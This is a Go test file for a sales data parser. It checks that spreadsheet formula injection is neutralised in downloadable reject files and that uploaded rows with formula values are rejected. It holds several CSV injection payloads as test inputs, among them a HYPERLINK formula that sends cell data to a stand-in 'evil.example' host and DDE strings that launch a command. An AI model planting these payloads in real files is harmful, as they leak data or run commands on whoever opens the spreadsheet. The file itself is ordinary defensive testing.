package parser

import (
	"bytes"
	"encoding/csv"
	"errors"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/salesseg/salesseg/internal/dimension"
)

// TestRejectsAreInert is issue 14's item 4: values and column names of
// the uploaded file went raw into rejects/*.csv, which the dashboard offers
// for download, so "=HYPERLINK(...)" ran when the file was opened. Every
// cell that a spreadsheet could evaluate now starts with an apostrophe;
// plain signed numbers stay as they are.
func TestRejectsAreInert(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{`@SUM(1+1)*cmd|' /C calc'!A0`, `'@SUM(1+1)*cmd|' /C calc'!A0`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"  =1+1", "'  =1+1"},
		{"＝1+1", "'＝1+1"},
		{"＠SUM(1)", "'＠SUM(1)"},
		{"-", "'-"},
		{"-5", "-5"},
		{"+1,234.50", "+1,234.50"},
		{"-0.5", "-0.5"},
		{"-1e3", "'-1e3"},
		{"Consumer", "Consumer"},
		{"", ""},
		{"5=5", "5=5"},
	}
	var out bytes.Buffer
	w := NewCSVRejects(&out)
	for i, c := range cases {
		if err := w.Reject(&RowError{Line: i + 2, Column: c.in, Value: c.in, Err: errors.New(c.in)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(cases)+1 || !slices.Equal(rows[0], []string{"line", "column", "value", "reason"}) {
		t.Fatalf("rows %q", rows)
	}
	for i, c := range cases {
		t.Run(c.in, func(t *testing.T) {
			if got := rows[i+1][1:]; !slices.Equal(got, []string{c.want, c.want, c.want}) {
				t.Fatalf("column, value, reason %q, want %q each", got, c.want)
			}
		})
	}
}

// TestFormulaValuesRejected is the other half of item 4: a formula could
// become a dimension value or customer id, and from there reach every
// report. Such rows are now rejected as invalid text; signed text that is
// no formula is kept.
func TestFormulaValuesRejected(t *testing.T) {
	text := "Order Date,Customer ID,Segment,Sales\n" +
		"2024-01-01,C1,\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",1\n" +
		"2024-01-01,C1,+cmd|' /C calc'!A0,1\n" +
		"2024-01-01,C1,@SUM(1+1),1\n" +
		"2024-01-01,C1,-2+3+cmd|' /C calc'!A0,1\n" +
		"2024-01-01,C1,＝1+1,1\n" +
		"2024-01-01,=1+1,Consumer,1\n" +
		"2024-01-01,+49 (0) 30 1234,@home,1\n" +
		"2024-01-01,C2,+1 plan,1\n" +
		"2024-01-01,C2,-,1\n"
	res, rej := mustParse(t, text, Options{})
	if res.Accepted != 3 || len(rej) != 6 {
		t.Fatalf("accepted %d, rejects %v", res.Accepted, rej)
	}
	for i, r := range rej {
		if !errors.Is(r, ErrBadText) || r.Line != i+2 {
			t.Fatalf("reject %d: %v, want ErrBadText on line %d", i, r, i+2)
		}
	}
	if got := slices.Sorted(maps.Keys(revenueBy(res, dimension.Segment))); !slices.Equal(got, []string{"+1 Plan", "-", "@home"}) {
		t.Fatalf("segments %q", got)
	}
	var out bytes.Buffer
	w := NewCSVRejects(&out)
	for _, r := range rej {
		if err := w.Reject(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		if v := strings.TrimLeft(row[2], " "); strings.ContainsAny(v[:1], "=+-@") || strings.HasPrefix(v, "＝") {
			t.Fatalf("live formula in the rejects file: %q", row)
		}
	}
}
